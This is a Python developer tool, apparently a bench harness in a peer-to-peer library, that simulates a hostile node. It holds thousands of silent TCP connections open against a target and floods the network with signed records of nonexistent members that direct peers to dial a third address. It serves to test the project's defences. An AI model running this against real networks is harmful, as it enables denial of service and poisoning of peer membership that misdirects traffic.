"""A box that means harm, for the bench: sockets that say nothing, and members that nobody has ever seen.

    P2PSERVE_TOKEN=p2p_worker_... python -m p2pserve.bootstrap.dev.attacker --sockets 2000 --entries 10000 HOST:PORT

It holds so many silent connections to that address, opening a new one for each that is closed, and
joins with the token to tell everybody so many records of invented members. Once both has begun it
says so in a line, and goes on until it is killed.
"""

import argparse
import os
import random
import resource
import sys
from collections.abc import Iterator, Sequence
from contextlib import suppress
from typing import Final

import msgspec
import trio

from ..addresses import Address, parse_address
from ..errors import NetworkError
from ..members.states import Tell
from ..methods import EVERYONE, Notice
from ..network import Network
from ..streams.libp2p_host import Libp2pTransport
from ..trust.entries import MEMBER_KIND, Entry, MemberRecord, sign_entry
from ..trust.identity import Identity
from ..trust.tokens import JoinToken

_TELL: Final = Notice("p2p.tell", Tell, EVERYONE)
_AT_ONCE: Final = 50  # entries of a message
_THIRD: Final = Address("192.0.2.1", 4001)  # whom they would have everybody dial
_REOPEN_S: Final = 5.0
_TELL_EVERY_S: Final = 0.02


async def hold_silent(address: Address, held: list[int]) -> None:
    """Keep one connection open and say nothing; open another when it is closed."""
    while True:
        with suppress(OSError):
            stream = await trio.open_tcp_stream(address.host, address.port)
            async with stream:
                held[0] += 1
                try:
                    await stream.receive_some(1)
                finally:
                    held[0] -= 1
        await trio.sleep(_REOPEN_S)


def invent(token: JoinToken, count: int) -> Iterator[tuple[Entry, ...]]:
    """Records of members that do not exist, with a certificate that counts."""
    for begin in range(0, count, _AT_ONCE):
        found = []
        for number in range(begin, begin + _AT_ONCE):
            identity = Identity((number + 1).to_bytes(32, "big"))
            record = MemberRecord(token.role, _THIRD.host, _THIRD.port, token.credential(identity.peer_id))
            found.append(sign_entry(identity, MEMBER_KIND, 1, 1, msgspec.msgpack.encode(record)))
        yield tuple(found)


async def tell_invented(text: str, count: int, begun: trio.Event) -> None:
    """Join, and tell everybody of so many members that do not exist, over and over."""
    token, identity = JoinToken.parse(text), Identity.generate()
    told = tuple(invent(token, count))
    here = Address("127.0.0.1", 0)
    while True:
        with suppress(NetworkError):
            async with Network(
                transport=Libp2pTransport(identity, here, here),
                identity=identity,
                token=text,
                network_key_public=token.network,
                role=token.role,
                announce=here,
                bootstraps=token.bootstraps,
                rng=random.Random(),
            ) as network:
                for entries in told:
                    for peer in network.connected():
                        with suppress(NetworkError):
                            network.notify(peer, _TELL, Tell(entries))
                    begun.set()
                    await trio.sleep(_TELL_EVERY_S)
        begun.set()
        await trio.sleep(1.0)


async def attack(text: str, address: Address, sockets: int, entries: int) -> None:
    """All of it, until cancelled."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(limit[1], max(limit[0], sockets + 256)), limit[1]))
    held, begun = [0], trio.Event()
    async with trio.open_nursery() as nursery:
        for _ in range(sockets):
            nursery.start_soon(hold_silent, address, held)
        nursery.start_soon(tell_invented, text, entries, begun)
        await begun.wait()
        sys.stdout.write(f"{held[0]}\n")
        sys.stdout.flush()


def main(arguments: Sequence[str] | None = None) -> int:
    """The command."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("address", type=parse_address)
    parser.add_argument("--sockets", type=int, default=2000)
    parser.add_argument("--entries", type=int, default=10_000)
    options = parser.parse_args(arguments)
    trio.run(attack, os.environ["P2PSERVE_TOKEN"], options.address, options.sockets, options.entries)
    return 0


if __name__ == "__main__":
    sys.exit(main())
